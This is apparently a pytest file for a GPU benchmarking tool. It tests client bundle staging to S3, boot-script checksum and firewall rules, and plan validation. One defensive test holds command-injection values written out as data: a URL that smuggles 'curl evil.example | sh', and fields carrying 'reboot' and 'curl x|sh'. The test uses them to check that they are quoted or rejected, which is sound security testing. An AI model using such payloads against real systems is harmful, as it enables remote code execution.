"""The client bundle (reproducible, complete, staged once to S3 with a presigned URL), the boot
script's agent section (checksum-checked, quoted, firewalled), and where the client runs by default."""

from __future__ import annotations

import hashlib
import importlib.metadata as md
import io
import json
import re
import shlex
import subprocess
import sys
import zipfile

import boto3
import httpx
import pytest
from moto import mock_aws

from bakeoff.core.launch import AGENT_PORT
from bakeoff.plan import PlanError, load_plan, plan_from_dict
from bakeoff.providers import ProviderError
from bakeoff.run import provisioning
from bakeoff.serving import bundle, userdata
from tests.stub_host import StubHost

KEY = "k" * 32


def test_the_bundle_is_reproducible_and_holds_what_the_node_runs():
    data, sha = bundle.build()
    again, sha2 = bundle.build()
    assert sha == sha2 == hashlib.sha256(data).hexdigest() and data == again
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert "bakeoff/__init__.py" in names and "bakeoff/agent/server.py" in names
    assert "bakeoff/catalog/serving.yaml" in names and "bakeoff/bench/client/transport.py" in names
    assert not [n for n in names if "__pycache__" in n or n.endswith(".pyc")]


def _closure(names: tuple[str, ...]) -> set[str]:
    """The distributions and everything they require (what pip installs on the node)."""
    seen, todo = set(), [n.lower().replace("_", "-") for n in names]
    while todo:
        n = todo.pop()
        if n in seen:
            continue
        seen.add(n)
        try:
            reqs = md.requires(n) or []
        except md.PackageNotFoundError:
            continue
        todo += [
            re.split(r"[ ;<>=!~\[(]", r, maxsplit=1)[0].lower().replace("_", "-") for r in reqs if "extra ==" not in r
        ]
    return seen


# imported only when present: httpx's command line (click, pygments, rich), pandas' pytz, pip's distutils shim
OPTIONAL = {"click", "pygments", "rich", "pytz", "setuptools"}


@pytest.mark.slow
def test_the_agent_requirements_cover_what_the_client_imports():
    code = (
        "import sys, json, importlib.metadata as md\n"
        "import bakeoff.agent.cli, bakeoff.agent.server, bakeoff.bench.cli, bakeoff.bench.run, bakeoff.bench.load.sla, "
        "bakeoff.bench.fleet.workers, bakeoff.bench.load.calibration, bakeoff.serving.provenance, bakeoff.cli\n"
        "m = md.packages_distributions()\n"
        "tops = {n.split('.')[0] for n in sys.modules} - set(sys.stdlib_module_names)\n"
        "print(json.dumps(sorted({d for t in tops for d in m.get(t, [])} - {'bakeoff'})))"
    )
    imported = json.loads(subprocess.check_output([sys.executable, "-c", code], text=True))
    have = _closure(bundle.AGENT_REQUIREMENTS) | OPTIONAL
    missing = [d for d in imported if d.lower().replace("_", "-") not in have]
    assert imported and not missing, f"add to AGENT_REQUIREMENTS: {missing}"
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+==[0-9][A-Za-z0-9_.+-]*", r) for r in bundle.requirements())


def test_the_hashed_requirements_match_this_workers_pins():
    """The node installs bakeoff/agent/requirements-node.txt with --require-hashes: it must pin the whole
    closure of AGENT_REQUIREMENTS at the versions CI runs (regenerate: scripts/agent_requirements.py)."""
    root = bundle.package_root().parents[1]
    done = subprocess.run(
        [sys.executable, str(root / "scripts" / "agent_requirements.py"), "--check"], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    pins = bundle.hashed_pins()
    assert set(pins) == set(bundle.closure_pins())
    assert {bundle.normalize(r) for r in bundle.requirements()} <= {bundle.normalize(p) for p in pins}


@mock_aws
def test_staging_uploads_once_and_hands_out_a_presigned_url():
    s3 = boto3.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket="bakeoff-client")
    first = bundle.stage_s3(s3, "bakeoff-client", "pfx", expires_s=3600)
    second = bundle.stage(settings={"bucket": "bakeoff-client", "prefix": "pfx", "s3_client": s3}, expires_s=3600)
    objects = s3.list_objects_v2(Bucket="bakeoff-client")["Contents"]
    assert [o["Key"] for o in objects] == [f"pfx/client/bakeoff-client-{first.sha256[:16]}.zip"]
    assert second.sha256 == first.sha256 and "Signature=" in first.url and objects[0]["Key"] in first.url
    body = s3.get_object(Bucket="bakeoff-client", Key=objects[0]["Key"])["Body"].read()
    assert hashlib.sha256(body).hexdigest() == first.sha256
    assert bundle.stage({}, 3600) is None  # no bucket configured: no agent


def _target(provider="aws", **opts):
    plan = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    t = next(x for x in plan["targets"] if x["provider"] == ("aws" if provider == "aws" else "vultr"))
    t["provider_options"].update(opts)
    return plan_from_dict({**plan, "targets": [t]}).targets[0]


def _agent(url="https://bucket.s3.amazonaws.com/c.zip?X-Amz-Signature=abc&X-Amz-Expires=3600"):
    return {"url": url, "sha256": "a" * 64, "requirements": ["httpx==0.28.1", "PyYAML==6.0.3"]}


def test_the_boot_script_checks_the_bundle_and_firewalls_the_agent():
    t = _target()
    script = userdata.render(
        t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=_agent(), expires_at=1.9e9
    )
    assert f'echo "{"a" * 64}  /opt/bakeoff/client.zip" | sha256sum -c --quiet -' in script
    assert f"iptables -I INPUT -p tcp --dport {AGENT_PORT} -s 203.0.113.7/32 -j ACCEPT" in script
    assert f"iptables -I INPUT -p tcp --dport {AGENT_PORT} -j DROP" in script
    assert (
        "pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
        "-r /opt/bakeoff/client/bakeoff/agent/requirements-node.txt"
    ) in script
    assert "--key-file /etc/bakeoff/api_key" in script and "--expires-at 1900000000" in script
    # the agent reads the GPUs' energy counters through the target's vendor library (the CLI sampler stays)
    assert f"--gpu-vendor {t.gpu.vendor}" in script and "power.csv" in script
    # the agent starts before the serving image is pulled, so a failed pull still has someone to tell
    assert script.index("bakeoff-agent") < script.index("docker pull")
    assert userdata.agent_from_userdata(script) == {"sha256": "a" * 64, "url": _agent()["url"]}
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    assert userdata.agent_from_userdata(userdata.render(t, api_key=KEY, shutdown_after_s=60, ingress_cidr=None)) is None


def test_a_hostile_bundle_url_stays_one_quoted_word(tmp_path):
    evil = "https://x/c.zip?a=1'; curl evil.example | sh; echo '"
    script = userdata.render(
        _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=_agent(evil)
    )
    # the URL is set once, as one quoted word, and curl reads that variable
    line = next(ln for ln in script.splitlines() if ln.startswith(f"{userdata.BUNDLE_URL_VAR}="))
    assert shlex.split(line) == [f"{userdata.BUNDLE_URL_VAR}={evil}"]
    host = StubHost(tmp_path, {"curl": 'printf "%s\\n" "$@"'})  # nothing but curl may run: no injected sh
    shown = host.run(f'{line}\ncurl -fsSL "${userdata.BUNDLE_URL_VAR}"')
    assert shown.returncode == 0 and shown.stdout.splitlines() == ["-fsSL", evil]
    fetch = next(ln for ln in script.splitlines() if ln.startswith("if curl"))
    assert shlex.split(fetch.removesuffix("\\"))[-1] == f"${userdata.BUNDLE_URL_VAR}" and evil not in fetch
    assert script.count("evil.example") == 1
    with pytest.raises(ValueError, match="sha256"):
        userdata.render(
            _target(), api_key=KEY, shutdown_after_s=60, ingress_cidr=None, agent={**_agent(), "sha256": "abc; reboot"}
        )
    with pytest.raises(ValueError, match="requirements"):
        userdata.render(
            _target(),
            api_key=KEY,
            shutdown_after_s=60,
            ingress_cidr=None,
            agent={**_agent(), "requirements": ["httpx; curl x|sh"]},
        )


def test_clouds_default_to_a_co_located_client_and_others_cannot_have_one():
    assert _target("aws").client_mode == "co-located"
    assert _target("aws", client_mode="remote").client_mode == "remote"
    local = load_plan("local-demo").targets[0]
    assert local.client_mode == "remote"
    raw = load_plan("local-demo").model_dump(mode="json")
    raw["targets"][0]["provider_options"]["client_mode"] = "co-located"
    with pytest.raises(PlanError, match="client_mode: co-located needs a node bakeoff provisions"):
        plan_from_dict(raw)


def test_a_co_located_target_without_a_bucket_stops_before_launch():
    no_bucket = lambda name: {}  # noqa: E731 - no client_bundle settings
    with pytest.raises(ProviderError, match="bakeoff_client_bucket"):
        provisioning.stage_client(_target("aws"), 3600, no_bucket)
    assert provisioning.stage_client(_target("aws", client_mode="remote"), 3600, no_bucket) is None


@pytest.mark.slow
def test_presigned_url_serves_the_bundle_from_moto_server():
    """What a node does with the URL: a plain GET, no AWS credentials (moto in server mode)."""
    from bakeoff_sandbox import Sandbox

    with Sandbox() as sb:
        staged = bundle.stage(sb.credentials("client_bundle"), 3600)
        got = httpx.get(staged.url, timeout=10)
    assert got.status_code == 200 and hashlib.sha256(got.content).hexdigest() == staged.sha256


def test_a_boot_script_over_the_user_data_limit_is_refused_with_the_fix():
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    raw["targets"][0]["env"] = {f"VAR_{i}": "x" * 200 for i in range(90)}
    t = plan_from_dict(raw).targets[0]
    with pytest.raises(ValueError, match="user-data limit; shorten env"):
        userdata.render(t, api_key=KEY, shutdown_after_s=60, ingress_cidr=None, agent=_agent())
